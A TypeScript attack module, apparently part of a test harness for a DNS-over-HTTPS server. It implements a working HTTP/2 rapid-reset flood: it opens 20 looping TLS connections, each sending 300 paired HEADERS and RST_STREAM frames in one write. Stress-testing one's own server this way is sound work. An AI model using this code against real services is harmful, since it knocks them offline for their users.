/** HTTP/2: all that a session may ask and give up, in one write, again and again on new connections. */
import { dialTls, query } from './guest.ts';
import { type StrangerAttack, stranger } from './stranger.ts';

const PAIRS = 300;
const HEADERS = 1;
const RESET = 3;
const SETTINGS = 4;
/** END_STREAM and END_HEADERS (RFC 9113 §6.2). */
const WHOLE = 5;

export const attack: StrangerAttack = {
  title: 'Streams of HTTP/2 that are given up in the same write',
  innocents: 'tls',
  strike: ({ httpsPort }) => {
    const octets = everything();
    const come = (index: number): void => {
      const socket = dialTls(httpsPort, index, 'h2');
      socket.on('secureConnect', () => socket.write(octets)).resume();
      // The server sends it away, or says nothing more.
      const bored = setTimeout(() => socket.destroy(), 100);
      socket.on('close', () => {
        clearTimeout(bored);
        setTimeout(come, 10, index);
      });
    };
    for (let index = 0; index < 20; index += 1) come(index);
  },
};

function everything(): Buffer {
  const path = `/dns-query?dns=${query('www.static.example').subarray(2).toString('base64url')}`;
  // RFC 7541: GET and https of the static table, then :path and :authority as literals.
  const fields = Buffer.concat([Buffer.of(0x82, 0x87, 0x04), literal(path), Buffer.of(0x01), literal('a')]);
  const pairs = Array.from({ length: PAIRS }, (_, index) => [
    frame(HEADERS, WHOLE, 2 * index + 1, fields),
    frame(RESET, 0, 2 * index + 1, Buffer.of(0, 0, 0, 8)),
  ]);
  return Buffer.concat([
    Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
    frame(SETTINGS, 0, 0, Buffer.alloc(0)),
    ...pairs.flat(),
  ]);
}

function literal(text: string): Buffer {
  return Buffer.concat([Buffer.of(text.length), Buffer.from(text)]);
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, payload]);
}

if (import.meta.main) stranger(attack, import.meta.filename);
